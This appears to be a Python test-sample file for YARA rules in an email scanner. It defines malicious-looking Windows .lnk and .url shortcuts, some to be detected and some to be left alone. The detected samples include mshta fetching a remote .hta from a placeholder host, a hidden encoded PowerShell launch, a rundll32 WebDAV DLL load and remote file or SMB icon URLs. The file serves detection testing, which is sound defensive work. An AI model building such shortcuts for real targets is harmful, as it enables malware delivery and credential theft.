"""Samples for rules/shortcuts.yar."""

from tests.starter.samples.formats import shell_link
from tests.starter.samples.parts import attachment, body, file, member

_FOLDER = shell_link("..\\..\\Public\\Documents\\Plans")
_COMMAND = shell_link("..\\Windows\\System32\\cmd.exe", "/c dir")
_DOWNLOAD = shell_link("..\\mshta.exe", "https://host.invalid/a.hta")
_ENCODED = shell_link("..\\powershell.exe", "-w hidden -enc " + "QQBCAEMA" * 8)
_WEBDAV = shell_link("..\\rundll32.exe", "\\\\host.invalid@ssl\\a\\b.dll,c")

DETECTED = {
    "Mailward.Shortcut.Attached": [
        attachment("plans.lnk", _FOLDER),
        attachment("plans.pdf", _FOLDER, "application/pdf"),
        member("plans.lnk", _FOLDER),
    ],
    "Mailward.Shortcut.Command": [
        attachment("plans.lnk", _COMMAND),
        member("plans.pdf.lnk", _DOWNLOAD),
    ],
    "Mailward.Shortcut.Download": [
        attachment("plans.lnk", _DOWNLOAD),
        attachment("plans.lnk", _ENCODED),
        member("plans.lnk", _WEBDAV),
        file("plans.lnk", _DOWNLOAD),
    ],
    "Mailward.Shortcut.RemoteFile": [
        attachment("a.url", b"[InternetShortcut]\r\nURL=file://host.invalid/a/b.exe\r\n"),
        attachment(
            "a.url", b"[InternetShortcut]\nIconFile=\\\\192.0.2.7\\a\\b.ico\nURL=https://a.b/"
        ),
        member("a.url", b"[InternetShortcut]\r\nURL=\\\\host.invalid@80\\a\\b.lnk"),
    ],
}

LEFT_ALONE = {
    "Mailward.Shortcut.Attached": [
        attachment("plans.lnk", b"L\0\0\0"),
        attachment("plans.txt", b"Open the shortcut plans.lnk on your desktop", "text/plain"),
        file("plans.lnk", _FOLDER),
    ],
    "Mailward.Shortcut.Command": [
        attachment("plans.lnk", _FOLDER),
        attachment("notes.txt", b"Call cmd.exe or powershell", "text/plain"),
        body(b"the shortcut started mshta https://host.invalid/"),
    ],
    "Mailward.Shortcut.Download": [
        attachment("plans.lnk", _COMMAND),
        attachment("page.lnk", shell_link("..\\browser.exe", "https://www.example.org/")),
        attachment("plans.lnk", b""),
    ],
    "Mailward.Shortcut.RemoteFile": [
        attachment(
            "a.url", b"[InternetShortcut]\r\nURL=https://www.example.org/\r\nIconIndex=0\r\n"
        ),
        attachment("a.url", b"[InternetShortcut]\r\nURL=file:///C:/Users/Public/a.html\r\n"),
        attachment("a.txt", b"[other]\r\nURL=file://host.invalid/a/b.exe\r\n"),
    ],
}
